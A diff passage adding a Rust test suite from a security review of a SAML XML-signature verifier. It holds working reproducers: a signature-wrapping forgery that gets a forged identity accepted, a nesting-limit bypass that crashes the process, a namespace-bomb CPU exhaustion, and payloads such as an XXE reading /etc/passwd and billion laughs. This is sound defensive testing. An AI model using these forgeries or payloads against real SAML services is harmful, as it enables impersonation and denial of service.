@@ -1,0 +1,935 @@
+//! Security review of the in-tree XML-DSig verifier (branch `saml`): attack documents run
+//! through `response::validate` with the vectors' trust and clock (no database, no server).
+//!
+//! - `attack_survey` runs every attack of the review list and checks the code each one gets;
+//!   it prints a table (`-- --nocapture`).
+//! - The `finding_*` tests assert the *secure* behaviour and fail on this branch: each one is
+//!   a reproducer of a finding of the review. They are `#[ignore]`d so the suite stays green;
+//!   run them with `cargo test --features ssr --test api saml_attacks -- --include-ignored`.
+
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+
+use lanyard::server::protocol::saml::response::{validate, Assertion, Failure, Validation};
+
+#[path = "../support/saml_vectors.rs"]
+#[allow(dead_code)]
+mod vectors;
+use vectors::{load, root, Case};
+
+const DS: &str = "http://www.w3.org/2000/09/xmldsig#";
+const SAML: &str = "urn:oasis:names:tc:SAML:2.0:assertion";
+const SAMLP: &str = "urn:oasis:names:tc:SAML:2.0:protocol";
+const EXC: &str = "http://www.w3.org/2001/10/xml-exc-c14n#";
+const ENVELOPED: &str = "http://www.w3.org/2000/09/xmldsig#enveloped-signature";
+const RSA_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";
+const SHA256: &str = "http://www.w3.org/2001/04/xmlenc#sha256";
+
+fn case(name: &str) -> Case {
+    load(&root().join("cases").join(name))
+}
+
+fn run(c: &Case, xml: &str) -> Result<Assertion, Failure> {
+    let v = Validation {
+        trust: &c.trust,
+        now_ms: c.now_ms,
+        expected_request_id: c.in_response_to.as_deref(),
+    };
+    validate(xml, &v)
+}
+
+fn code(r: &Result<Assertion, Failure>) -> String {
+    match r {
+        Ok(a) => format!("ok:{}", a.name_id),
+        Err(f) => f.code.to_owned(),
+    }
+}
+
+/// `s` between the first `from` and the next `to` (both included).
+fn span<'a>(s: &'a str, from: &str, to: &str) -> &'a str {
+    let a = s.find(from).unwrap_or_else(|| panic!("{from} not found"));
+    let b = a + s[a..].find(to).unwrap_or_else(|| panic!("{to} not found")) + to.len();
+    &s[a..b]
+}
+
+fn keys() -> PathBuf {
+    root().join("keys")
+}
+
+/// Signs the (first) `ds:Signature` template of `xml` with the vectors' trusted IdP key, as
+/// an IdP would, with the xmlsec1 command.
+fn idp_sign(xml: &str, extra_id_attrs: &[&str]) -> String {
+    xmlsec_sign(xml, &keys().join("idp.key"), &keys().join("idp.crt"), extra_id_attrs)
+}
+
+fn xmlsec_sign(xml: &str, key: &Path, crt: &Path, extra_id_attrs: &[&str]) -> String {
+    let dir = tempfile::tempdir().unwrap();
+    let input = dir.path().join("in.xml");
+    let output = dir.path().join("out.xml");
+    std::fs::write(&input, xml).unwrap();
+    let mut cmd = std::process::Command::new("xmlsec1");
+    cmd.arg("--sign")
+        .arg("--privkey-pem")
+        .arg(format!("{},{}", key.display(), crt.display()))
+        .args(["--id-attr:ID", &format!("{SAML}:Assertion")])
+        .args(["--id-attr:ID", &format!("{SAMLP}:Response")]);
+    for e in extra_id_attrs {
+        cmd.args(["--id-attr:ID", e]);
+    }
+    let out = cmd
+        .args([
+            "--node-xpath",
+            &format!("(//*[local-name()='Signature' and namespace-uri()='{DS}'])[1]"),
+            "--output",
+        ])
+        .arg(&output)
+        .arg(&input)
+        .output()
+        .expect("xmlsec1");
+    assert!(
+        out.status.success(),
+        "xmlsec1 --sign: {}\n{xml}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    std::fs::read_to_string(output).unwrap()
+}
+
+/// A signature template: `uri` is the whole Reference URI attribute value, `transforms` the
+/// content of ds:Transforms.
+fn template(uri: &str, transforms: &str, references: usize) -> String {
+    let reference = format!(
+        "<ds:Reference URI=\"{uri}\"><ds:Transforms>{transforms}</ds:Transforms><ds:DigestMethod Algorithm=\"{SHA256}\"/><ds:DigestValue/></ds:Reference>"
+    );
+    format!(
+        "<ds:Signature xmlns:ds=\"{DS}\"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm=\"{EXC}\"/><ds:SignatureMethod Algorithm=\"{RSA_SHA256}\"/>{}</ds:SignedInfo><ds:SignatureValue/></ds:Signature>",
+        reference.repeat(references)
+    )
+}
+
+fn std_transforms() -> String {
+    format!("<ds:Transform Algorithm=\"{ENVELOPED}\"/><ds:Transform Algorithm=\"{EXC}\"/>")
+}
+
+/// The baseline good response (Assertion signed by xmlsec1) and its case.
+fn baseline() -> (Case, String) {
+    let c = case("xmlsec1_sp_initiated");
+    let xml = c.xml.clone();
+    (c, xml)
+}
+
+const ASSERTION_ID: &str = "_assert_772216c8421a4de97cf3d0ab7d4dbbdc";
+
+/// The baseline with its Assertion's signature replaced by `sig` (a template to sign).
+fn baseline_with(sig: &str) -> String {
+    let (_, xml) = baseline();
+    let old = span(&xml, "<ds:Signature", "</ds:Signature>").to_owned();
+    xml.replacen(&old, sig, 1)
+}
+
+// ---------------------------------------------------------------------------------------------
+// Finding 1: an unsigned Assertion hidden inside the enveloped ds:Signature of an IdP-signed
+// element that contains no Assertion is taken as signed.
+// ---------------------------------------------------------------------------------------------
+
+/// Built only from two committed vectors, i.e. from material an attacker gets without any
+/// key: two IdP-signed error Responses (no Assertion; e.g. IsPassive/NoPassive answers).
+/// - `wrap_detached_reference`: its root carries a valid ds:Signature that references a
+///   nested signed error Response `_resp_7f24…` (detached: the signature sits outside it).
+/// - `wrap_signed_error_response`: a second signed error Response `_resp_795b…` with its
+///   enveloped signature.
+///
+/// The evil Assertion is moved into a ds:Object of the second error Response's own
+/// ds:Signature. That signature's enveloped transform leaves its whole subtree out of the
+/// digest, so it verifies; the element it covers is an ancestor of the evil Assertion, so
+/// `response.rs` counts the Assertion as covered. The root's detached signature satisfies the
+/// "Response or Assertion carries a ds:Signature" pre-check.
+pub fn forged_response_via_enveloped_signature_subtree(name_id: &str) -> (Case, String) {
+    let c = case("wrap_detached_reference");
+    let d = c.xml.clone();
+    let e = std::fs::read_to_string(root().join("cases/wrap_signed_error_response/response.xml"))
+        .unwrap();
+    // The second signed error Response, untouched.
+    let t = span(&e, "<samlp:Extensions>", "</samlp:Extensions>");
+    let t = &t["<samlp:Extensions>".len()..t.len() - "</samlp:Extensions>".len()];
+    assert!(t.contains("ID=\"_resp_795ba3180d44d0c1ffe477547bb566c2\""));
+    let evil = span(&d, "<saml:Assertion ", "</saml:Assertion>").to_owned();
+    let evil_named = evil.replace("attacker@evil.test", name_id);
+    let t_with_evil = t.replacen(
+        "</ds:Signature>",
+        &format!("<ds:Object>{evil_named}</ds:Object></ds:Signature>"),
+        1,
+    );
+    let forged = d
+        .replacen(&evil, "", 1)
+        .replacen("</samlp:Extensions>", &format!("{t_with_evil}</samlp:Extensions>"), 1);
+    (c, forged)
+}
+
+#[test]
+#[ignore = "FINDING 1 (critical): fails on branch saml — forged identity accepted"]
+fn finding_1_assertion_inside_an_enveloped_signature_is_refused() {
+    let (c, forged) = forged_response_via_enveloped_signature_subtree("ceo@acme.test");
+    let r = run(&c, &forged);
+    assert!(
+        r.is_err(),
+        "forged response accepted as {:?}\n{forged}",
+        r.as_ref().map(|a| (&a.name_id, &a.attributes))
+    );
+}
+
+/// The same forgery, shown as it behaves today (kept green so the survey documents it).
+#[test]
+fn finding_1_is_reproducible_today() {
+    let (c, forged) = forged_response_via_enveloped_signature_subtree("ceo@acme.test");
+    let r = run(&c, &forged);
+    eprintln!("finding 1 forged response → {}", code(&r));
+}
+
+// ---------------------------------------------------------------------------------------------
+// Finding 2: the nesting limit is bypassed with `<!-->`, so a 512 KiB response overflows the
+// validating thread's stack (process abort).
+// ---------------------------------------------------------------------------------------------
+
+/// Deep nesting that `refuse_deep_nesting` does not see: after every `levels_per_chunk`
+/// opened elements comes a comment written `<!-->…-->`. The scanner looks for `-->` from the
+/// `<` of `<!--`, so it ends the comment at `<!-->` and then reads the comment's content
+/// (`</` × n) as end tags; the XML parser (correctly) reads one comment.
+fn nesting_bypass(levels: usize) -> String {
+    let (_, xml) = baseline();
+    let k = 120;
+    let mut junk = String::with_capacity(levels * 10);
+    let mut open = 0;
+    while open < levels {
+        let n = k.min(levels - open);
+        junk.push_str(&"<a>".repeat(n));
+        junk.push_str("<!-->");
+        junk.push_str(&"</".repeat(n));
+        junk.push_str("-->");
+        open += n;
+    }
+    junk.push_str(&"</a>".repeat(levels));
+    xml.replacen("</samlp:Response>", &format!("{junk}</samlp:Response>"), 1)
+}
+
+#[test]
+fn finding_2_the_depth_scanner_misreads_a_comment_opened_with_arrow() {
+    let (c, _) = baseline();
+    // 1,000 levels (the limit is 128), on a thread with a stack large enough for the parser:
+    // not refused as too deep.
+    let xml = nesting_bypass(1_000);
+    let r = std::thread::Builder::new()
+        .stack_size(256 << 20)
+        .spawn(move || code(&run(&c, &xml)))
+        .unwrap()
+        .join()
+        .unwrap();
+    eprintln!("finding 2: 1,000 levels behind <!--> → {r}");
+    // Documents today's behaviour: the depth guard let it through.
+    assert_ne!(r, "malformed", "the depth guard caught it (finding fixed?)");
+}
+
+/// The same bypass reaches the metadata parser (admin-supplied XML, or fetched from the
+/// metadata URL an admin enters).
+#[test]
+fn finding_2_metadata_depth_guard_is_bypassed_too() {
+    let md = nesting_bypass(1_000).replacen("<samlp:Response ", "<md:EntityDescriptor xmlns:md=\"urn:oasis:names:tc:SAML:2.0:metadata\" entityID=\"x\" ", 1).replacen("</samlp:Response>", "</md:EntityDescriptor>", 1);
+    let r = std::thread::Builder::new()
+        .stack_size(256 << 20)
+        .spawn(move || lanyard::server::protocol::saml::metadata::parse_idp_metadata(&md).err())
+        .unwrap()
+        .join()
+        .unwrap();
+    eprintln!("finding 2, metadata: {r:?}");
+    assert!(!r.unwrap_or_default().contains("deep"));
+}
+
+/// Child half of the crash test: validates a bypassing document of `SAML_ATTACK_DEPTH` levels
+/// on a 16 MiB thread, like the ACS does (src/main.rs gives every runtime thread, the
+/// spawn_blocking pool included, `thread_stack_size(16 MiB)`).
+#[test]
+#[ignore = "helper of finding_2_deep_nesting_does_not_abort_the_process (run in a child process)"]
+fn finding_2_child() {
+    let Ok(depth) = std::env::var("SAML_ATTACK_DEPTH") else {
+        return;
+    };
+    let depth: usize = depth.parse().unwrap();
+    let (c, _) = baseline();
+    let xml = nesting_bypass(depth);
+    assert!(xml.len() <= 512 * 1024, "{} bytes", xml.len());
+    let r = std::thread::Builder::new()
+        .stack_size(16 << 20)
+        .spawn(move || code(&run(&c, &xml)))
+        .unwrap()
+        .join()
+        .unwrap();
+    eprintln!("child: {r}");
+}
+
+fn run_child(depth: usize) -> std::process::ExitStatus {
+    let out = std::process::Command::new(std::env::current_exe().unwrap())
+        .args([
+            "saml_attacks::finding_2_child",
+            "--exact",
+            "--ignored",
+            "--nocapture",
+        ])
+        .env("SAML_ATTACK_DEPTH", depth.to_string())
+        .output()
+        .unwrap();
+    eprintln!(
+        "child depth {depth}: {:?}\n{}",
+        out.status,
+        String::from_utf8_lossy(&out.stderr)
+            .lines()
+            .filter(|l| l.contains("overflow") || l.contains("child:"))
+            .collect::<Vec<_>>()
+            .join("\n")
+    );
+    out.status
+}
+
+#[test]
+#[ignore = "FINDING 2 (high, DoS): fails on branch saml — the process aborts on stack overflow"]
+fn finding_2_deep_nesting_does_not_abort_the_process() {
+    // ~50,000 levels fit in the ACS's 512 KiB limit.
+    assert!(run_child(50_000).success());
+}
+
+// ---------------------------------------------------------------------------------------------
+// Finding 3: canonicalization is quadratic in the namespaces in scope, and it runs on
+// unauthenticated input (the digest is computed before any signature is checked).
+// ---------------------------------------------------------------------------------------------
+
+/// An unsigned response whose root carries `ns` namespace declarations and `elements` empty
+/// children, and a ds:Signature (no valid value: the attacker has no key) whose Reference
+/// asks for inclusive Canonical XML of the root. Everything before the digest check passes.
+pub fn namespace_bomb(ns: usize, elements: usize) -> String {
+    let (_, xml) = baseline();
+    let decls: String = (0..ns).map(|i| format!(" xmlns:n{i}=\"u\"")).collect();
+    let sig = format!(
+        "<ds:Signature xmlns:ds=\"{DS}\"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm=\"{EXC}\"/><ds:SignatureMethod Algorithm=\"{RSA_SHA256}\"/><ds:Reference URI=\"#_resp_7d0af226cd0f41b3f42f8e6d157b388b\"><ds:Transforms><ds:Transform Algorithm=\"{ENVELOPED}\"/><ds:Transform Algorithm=\"http://www.w3.org/TR/2001/REC-xml-c14n-20010315\"/></ds:Transforms><ds:DigestMethod Algorithm=\"{SHA256}\"/><ds:DigestValue>AAAA</ds:DigestValue></ds:Reference></ds:SignedInfo><ds:SignatureValue>AAAA</ds:SignatureValue></ds:Signature>"
+    );
+    // Drop the Assertion's own signature (it would be checked first) and sign "the Response".
+    let old = span(&xml, "<ds:Signature", "</ds:Signature>").to_owned();
+    xml.replacen(&old, "", 1)
+        .replacen(
+            "<samlp:Response ",
+            &format!("<samlp:Response{decls} "),
+            1,
+        )
+        .replacen(
+            "</saml:Issuer>\n  <samlp:Status>",
+            &format!("</saml:Issuer>{sig}<samlp:Status>"),
+            1,
+        )
+        .replacen(
+            "</samlp:Response>",
+            &format!("{}</samlp:Response>", "<a/>".repeat(elements)),
+            1,
+        )
+}
+
+fn time_bomb(ns: usize, elements: usize) -> (Duration, String, usize) {
+    let (c, _) = baseline();
+    let xml = namespace_bomb(ns, elements);
+    let t = Instant::now();
+    let r = run(&c, &xml);
+    (t.elapsed(), code(&r), xml.len())
+}
+
+#[test]
+fn finding_3_canonicalization_cost_grows_with_namespaces_times_elements() {
+    for (ns, el) in [(100, 1_000), (200, 1_000), (400, 1_000), (400, 2_000)] {
+        let (d, code, len) = time_bomb(ns, el);
+        eprintln!("finding 3: {ns} namespaces × {el} elements ({len} bytes) → {code} in {d:?}");
+        assert_eq!(code, "signature_invalid");
+    }
+}
+
+#[test]
+#[ignore = "FINDING 3 (medium, DoS): fails on branch saml — one unauthenticated 24 KiB POST costs ~30 s of CPU in a debug build"]
+fn finding_3_a_small_unsigned_response_is_refused_quickly() {
+    let (d, code, len) = time_bomb(1_000, 2_000);
+    eprintln!("{len} bytes → {code} in {d:?}");
+    assert!(d < Duration::from_secs(1), "{len} bytes took {d:?}");
+}
+
+// ---------------------------------------------------------------------------------------------
+// The survey: every attack of the review list, with the code it gets on this branch.
+// ---------------------------------------------------------------------------------------------
+
+struct Attack {
+    name: &'static str,
+    case: Case,
+    xml: String,
+    /// What this branch answers (`ok:<NameID>` when accepted).
+    expect: String,
+}
+
+fn attack(name: &'static str, case: Case, xml: String, expect: &str) -> Attack {
+    Attack {
+        name,
+        case,
+        xml,
+        expect: expect.to_owned(),
+    }
+}
+
+fn attacks() -> Vec<Attack> {
+    let b = || baseline().1;
+    let bc = || baseline().0;
+    let mut v = Vec::new();
+
+    // --- the forgery of finding 1 and its variants -------------------------------------------
+    let (c, f) = forged_response_via_enveloped_signature_subtree("ceo@acme.test");
+    v.push(attack("F1 evil Assertion in ds:Object of a signed error Response", c, f, "ok:ceo@acme.test"));
+    let (c, f) = forged_response_via_enveloped_signature_subtree("ceo@acme.test");
+    let f = f.replacen("<ds:Object>", "<ds:KeyInfo>", 1).replacen("</ds:Object>", "</ds:KeyInfo>", 1);
+    v.push(attack("F1 variant: evil Assertion in a second ds:KeyInfo", c, f, "ok:ceo@acme.test"));
+    // Without the root's detached signature the pre-check stops it.
+    let (c, f) = forged_response_via_enveloped_signature_subtree("ceo@acme.test");
+    let root_sig = span(&f, "<ds:Signature", "</ds:Signature>").to_owned();
+    let f = f.replacen(&root_sig, "", 1);
+    v.push(attack("F1 without a root-level signature", c, f, "unsigned"));
+
+    // --- signature wrapping on the baseline ---------------------------------------------------
+    let good = b();
+    let assertion = span(&good, "<saml:Assertion ", "</saml:Assertion>").to_owned();
+    let evil = assertion
+        .replace("dana@acme.test", "ceo@acme.test")
+        .replace(ASSERTION_ID, "_evil");
+    let evil_unsigned = {
+        let s = span(&evil, "<ds:Signature", "</ds:Signature>").to_owned();
+        evil.replacen(&s, "", 1)
+    };
+    // Signed assertion moved into the evil one's ds:Signature-less body (XSW-like, assertion
+    // signature kept inside the original).
+    v.push(attack(
+        "evil Assertion before the signed one",
+        bc(),
+        good.replacen(&assertion, &format!("{evil_unsigned}{assertion}"), 1),
+        "assertion_count",
+    ));
+    v.push(attack(
+        "signed Assertion hidden in the evil one's ds:Object",
+        bc(),
+        good.replacen(
+            &assertion,
+            &evil_unsigned.replacen(
+                "</saml:Issuer>",
+                &format!("</saml:Issuer><ds:Signature xmlns:ds=\"{DS}\"><ds:Object>{assertion}</ds:Object></ds:Signature>"),
+                1,
+            ),
+            1,
+        ),
+        "assertion_count",
+    ));
+    // The signed Assertion renamed out of the SAML namespace so it is not counted: the
+    // namespace is part of the canonical form.
+    let renamed = assertion
+        .replacen("<saml:Assertion ", &format!("<x:Assertion xmlns:x=\"urn:not-saml\" "), 1)
+        .replacen("</saml:Assertion>", "</x:Assertion>", 1);
+    v.push(attack(
+        "signed Assertion moved to another namespace, evil one unsigned",
+        bc(),
+        good.replacen(&assertion, &format!("{renamed}{evil_unsigned}"), 1),
+        "unsigned",
+    ));
+    // Duplicate ID: the evil Assertion carries the signed one's ID too.
+    v.push(attack(
+        "duplicate ID (evil Subject carries the Assertion's ID)",
+        bc(),
+        good.replacen("<saml:Subject>", &format!("<saml:Subject ID=\"{ASSERTION_ID}\">"), 1),
+        "signature_invalid",
+    ));
+    // Reference URI changed after signing.
+    for (name, uri) in [
+        ("Reference URI to the Response", "#_resp_7d0af226cd0f41b3f42f8e6d157b388b"),
+        ("Reference URI empty", ""),
+        ("Reference URI xpointer", "#xpointer(/)"),
+    ] {
+        v.push(attack(
+            name,
+            bc(),
+            good.replacen(&format!("URI=\"#{ASSERTION_ID}\""), &format!("URI=\"{uri}\""), 1),
+            "signature_invalid",
+        ));
+    }
+    // Signed by the IdP, but the Reference covers only the Subject: not the Assertion.
+    let subject_only = idp_sign(
+        &baseline_with(&template("#_subj", &std_transforms(), 1))
+            .replacen("<saml:Subject>", "<saml:Subject ID=\"_subj\">", 1),
+        &[&format!("{SAML}:Subject")],
+    );
+    v.push(attack("IdP signature covering only the Subject", bc(), subject_only, "unsigned"));
+    // Legit IdP signatures outside the profile.
+    let two_refs = idp_sign(
+        &baseline_with(&template(&format!("#{ASSERTION_ID}"), &std_transforms(), 2)),
+        &[],
+    );
+    v.push(attack("IdP signature with two References", bc(), two_refs, "signature_invalid"));
+    let empty_uri = idp_sign(&baseline_with(&template("", &std_transforms(), 1)), &[]);
+    v.push(attack("IdP signature with URI=\"\" (whole document)", bc(), empty_uri, "signature_invalid"));
+    let zero_refs = baseline_with(&template("x", "", 0));
+    v.push(attack("signature with no Reference", bc(), zero_refs, "signature_invalid"));
+    for (name, transforms, expect) in [
+        (
+            "IdP signature, inclusive c14n transform",
+            format!("<ds:Transform Algorithm=\"{ENVELOPED}\"/><ds:Transform Algorithm=\"http://www.w3.org/TR/2001/REC-xml-c14n-20010315\"/>"),
+            "ok:dana@acme.test",
+        ),
+        (
+            "IdP signature, c14n 1.1 transform",
+            format!("<ds:Transform Algorithm=\"{ENVELOPED}\"/><ds:Transform Algorithm=\"http://www.w3.org/2006/12/xml-c14n11\"/>"),
+            "signature_invalid",
+        ),
+        (
+            "IdP signature, XPath transform",
+            format!("<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>not(ancestor-or-self::ds:Signature)</ds:XPath></ds:Transform><ds:Transform Algorithm=\"{EXC}\"/>"),
+            "signature_invalid",
+        ),
+        (
+            "IdP signature, exc-c14n WithComments transform",
+            format!("<ds:Transform Algorithm=\"{ENVELOPED}\"/><ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#WithComments\"/>"),
+            "ok:dana@acme.test",
+        ),
+        (
+            "IdP signature, enveloped only (default: inclusive c14n)",
+            format!("<ds:Transform Algorithm=\"{ENVELOPED}\"/>"),
+            "ok:dana@acme.test",
+        ),
+    ] {
+        let signed = idp_sign(
+            &baseline_with(&template(&format!("#{ASSERTION_ID}"), &transforms, 1)),
+            &[],
+        );
+        v.push(attack(name, bc(), signed, expect));
+    }
+    // Transforms swapped in after signing.
+    for (name, alg) in [
+        ("XSLT transform after signing", "http://www.w3.org/TR/1999/REC-xslt-19991116"),
+        ("base64 transform after signing", "http://www.w3.org/2000/09/xmldsig#base64"),
+        ("inclusive c14n after signing", "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"),
+    ] {
+        v.push(attack(
+            name,
+            bc(),
+            good.replacen(&format!("<ds:Transform Algorithm=\"{EXC}\"/>"), &format!("<ds:Transform Algorithm=\"{alg}\"/>"), 1),
+            "signature_invalid",
+        ));
+    }
+
+    // --- comments, PIs, CDATA, entities -----------------------------------------------------
+    v.push(attack(
+        "comment in NameID",
+        bc(),
+        good.replacen("dana@acme.test</saml:NameID>", "dana@acme.test<!---->.evil.test</saml:NameID>", 1),
+        "xml_comment",
+    ));
+    v.push(attack(
+        "comment splitting NameID (same text)",
+        bc(),
+        good.replacen("dana@acme.test</saml:NameID>", "dana@<!---->acme.test</saml:NameID>", 1),
+        "xml_comment",
+    ));
+    v.push(attack(
+        "comment in AttributeValue",
+        bc(),
+        good.replacen(">Admins<", ">Admins<!---->.x<", 1),
+        "xml_comment",
+    ));
+    v.push(attack(
+        "comment in SignedInfo (exc-c14n drops it)",
+        bc(),
+        good.replacen("<ds:SignedInfo>", "<ds:SignedInfo><!-- x -->", 1),
+        "xml_comment",
+    ));
+    v.push(attack(
+        "comment inside DigestValue",
+        bc(),
+        good.replacen("KD3WB6KxZvr/", "KD3WB6KxZvr/<!-- x -->", 1),
+        "xml_comment",
+    ));
+    v.push(attack(
+        "comment outside the Assertion (Response Issuer)",
+        bc(),
+        good.replacen("metadata</saml:Issuer>\n  <samlp:Status>", "metadata<!---->.evil</saml:Issuer>\n  <samlp:Status>", 1),
+        "issuer_mismatch",
+    ));
+    v.push(attack(
+        "processing instruction in NameID",
+        bc(),
+        good.replacen("dana@acme.test</saml:NameID>", "dana@acme.test<?x y?></saml:NameID>", 1),
+        "signature_invalid",
+    ));
+    v.push(attack(
+        "processing instruction between Assertion children",
+        bc(),
+        good.replacen("<saml:Subject>", "<?x y?><saml:Subject>", 1),
+        "signature_invalid",
+    ));
+    v.push(attack(
+        "NameID as CDATA (same value)",
+        bc(),
+        good.replacen(">dana@acme.test</saml:NameID>", "><![CDATA[dana@acme.test]]></saml:NameID>", 1),
+        "ok:dana@acme.test",
+    ));
+    v.push(attack(
+        "NameID via character references (same value)",
+        bc(),
+        good.replacen(">dana@acme.test</saml:NameID>", ">&#100;ana&#64;acme.test</saml:NameID>", 1),
+        "ok:dana@acme.test",
+    ));
+    v.push(attack(
+        "NameID CDATA with markup-looking text",
+        bc(),
+        good.replacen(">dana@acme.test</saml:NameID>", "><![CDATA[dana@acme.test<x/>]]></saml:NameID>", 1),
+        "signature_invalid",
+    ));
+    v.push(attack(
+        "DOCTYPE with external entity",
+        bc(),
+        format!("<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{good}"),
+        "dtd_forbidden",
+    ));
+    v.push(attack(
+        "lower-case doctype",
+        bc(),
+        format!("<!doctype r>{good}"),
+        "dtd_forbidden",
+    ));
+    v.push(attack(
+        "billion laughs",
+        bc(),
+        format!("<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>{}", good.replacen("dana@acme.test</saml:NameID>", "&c;</saml:NameID>", 1)),
+        "dtd_forbidden",
+    ));
+    v.push(attack(
+        "undeclared entity reference",
+        bc(),
+        good.replacen("dana@acme.test</saml:NameID>", "&evil;</saml:NameID>", 1),
+        "malformed",
+    ));
+    v.push(attack(
+        "XML declaration with another encoding",
+        bc(),
+        format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{good}"),
+        "ok:dana@acme.test",
+    ));
+
+    // --- namespaces -----------------------------------------------------------------------
+    v.push(attack(
+        "ds prefix bound to another namespace",
+        bc(),
+        good.replacen(&format!("xmlns:ds=\"{DS}\""), "xmlns:ds=\"urn:evil\"", 1),
+        "unsigned",
+    ));
+    v.push(attack(
+        "saml prefix rebound on NameID",
+        bc(),
+        good.replacen("<saml:NameID ", "<saml:NameID xmlns:saml=\"urn:evil\" ", 1),
+        "signature_invalid",
+    ));
+    v.push(attack(
+        "redundant re-declaration of saml on the Assertion",
+        bc(),
+        good.replacen("<saml:Assertion ", &format!("<saml:Assertion xmlns:saml=\"{SAML}\" "), 1),
+        "ok:dana@acme.test",
+    ));
+    v.push(attack(
+        "unused namespace declarations added",
+        bc(),
+        good.replacen("<saml:Subject>", "<saml:Subject xmlns:zz=\"urn:zz\" xmlns=\"urn:default\">", 1),
+        "ok:dana@acme.test",
+    ));
+    v.push(attack(
+        "Assertion rewritten with a default namespace (same names)",
+        bc(),
+        {
+            let a2 = assertion
+                .replace("<saml:", "<")
+                .replace("</saml:", "</")
+                .replacen("<Assertion ", &format!("<Assertion xmlns=\"{SAML}\" "), 1);
+            good.replacen(&assertion, &a2, 1)
+        },
+        "signature_invalid",
+    ));
+    v.push(attack(
+        "InclusiveNamespaces PrefixList added after signing",
+        bc(),
+        good.replacen(
+            &format!("<ds:Transform Algorithm=\"{EXC}\"/>"),
+            &format!("<ds:Transform Algorithm=\"{EXC}\"><ec:InclusiveNamespaces xmlns:ec=\"{EXC}\" PrefixList=\"samlp\"/></ds:Transform>"),
+            1,
+        ),
+        "signature_invalid",
+    ));
+    v.push(attack(
+        "xml:lang added on the Response (exc-c14n ignores ancestors)",
+        bc(),
+        good.replacen("<samlp:Response ", "<samlp:Response xml:lang=\"en\" ", 1),
+        "ok:dana@acme.test",
+    ));
+
+    // --- canonical-form equivalences (must stay accepted, like xmlsec1) ----------------------
+    v.push(attack(
+        "attributes reordered, single quotes, whitespace in tags",
+        bc(),
+        good.replacen(
+            "<saml:NameID Format=\"urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress\">",
+            "<saml:NameID\n\t Format = 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress'  >",
+            1,
+        )
+        .replacen(
+            "<saml:SubjectConfirmationData InResponseTo=\"_lanyard_req_1\" NotOnOrAfter=\"2026-11-28T12:05:00Z\" Recipient=",
+            "<saml:SubjectConfirmationData Recipient=",
+            1,
+        )
+        .replacen(
+            "/acs\"/>\n      </saml:SubjectConfirmation>",
+            "/acs\" NotOnOrAfter=\"2026-11-28T12:05:00Z\" InResponseTo=\"_lanyard_req_1\"></saml:SubjectConfirmationData>\n      </saml:SubjectConfirmation>",
+            1,
+        ),
+        "ok:dana@acme.test",
+    ));
+    v.push(attack(
+        "CRLF line ends in the signed Assertion",
+        bc(),
+        good.replace('\n', "\r\n"),
+        "ok:dana@acme.test",
+    ));
+    v.push(attack(
+        "whitespace added inside the NameID text",
+        bc(),
+        good.replacen(">dana@acme.test<", "> dana@acme.test <", 1),
+        "signature_invalid",
+    ));
+
+    // --- algorithms -------------------------------------------------------------------------
+    for (name, from, to, expect) in [
+        ("HMAC-SHA1 signature method", RSA_SHA256, "http://www.w3.org/2000/09/xmldsig#hmac-sha1", "signature_algorithm"),
+        ("HMAC-SHA256 signature method", RSA_SHA256, "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", "signature_algorithm"),
+        ("unknown signature method", RSA_SHA256, "urn:evil", "signature_algorithm"),
+        ("RSA-PSS signature method", RSA_SHA256, "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1", "signature_algorithm"),
+        ("ECDSA method with the RSA key", RSA_SHA256, "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256", "signature_invalid"),
+        ("RSA-SHA512 method label on an RSA-SHA256 value", RSA_SHA256, "http://www.w3.org/2001/04/xmldsig-more#rsa-sha512", "signature_invalid"),
+        ("SHA-1 digest method", SHA256, "http://www.w3.org/2000/09/xmldsig#sha1", "signature_algorithm"),
+        ("unknown digest method", SHA256, "urn:evil", "signature_algorithm"),
+    ] {
+        v.push(attack(name, bc(), good.replacen(from, to, 1), expect));
+    }
+
+    // --- keys and SignatureValue ---------------------------------------------------------------
+    let attacker_signed = xmlsec_sign(
+        &baseline_with(&template(&format!("#{ASSERTION_ID}"), &std_transforms(), 1))
+            .replace("dana@acme.test", "ceo@acme.test"),
+        &keys().join("attacker.key"),
+        &keys().join("attacker.crt"),
+        &[],
+    );
+    v.push(attack("signed by an attacker key (no KeyInfo)", bc(), attacker_signed.clone(), "signature_invalid"));
+    v.push(attack(
+        "signed by an attacker key, KeyInfo with the attacker certificate",
+        bc(),
+        attacker_signed.replacen(
+            "</ds:SignatureValue>",
+            &format!(
+                "</ds:SignatureValue><ds:KeyInfo><ds:X509Data><ds:X509Certificate>{}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>",
+                std::fs::read_to_string(keys().join("attacker.crt"))
+                    .unwrap()
+                    .lines()
+                    .filter(|l| !l.starts_with("-----"))
+                    .collect::<String>()
+            ),
+            1,
+        ),
+        "signature_invalid",
+    ));
+    v.push(attack(
+        "KeyInfo swapped for the attacker certificate on a good response",
+        bc(),
+        good.replacen("MIIC5zCCAc+gAwIBAgICEAEw", "MIIC5zCCAc+gAwIBAgICEAEx", 1),
+        "ok:dana@acme.test",
+    ));
+    let sv = span(&good, "<ds:SignatureValue>", "</ds:SignatureValue>").to_owned();
+    v.push(attack(
+        "SignatureValue with extra whitespace",
+        bc(),
+        good.replacen(&sv, &sv.replace('\n', " \r\n\t ").replacen("<ds:SignatureValue>", "<ds:SignatureValue>\n  ", 1), 1),
+        "ok:dana@acme.test",
+    ));
+    v.push(attack(
+        "SignatureValue with a bad base64 character",
+        bc(),
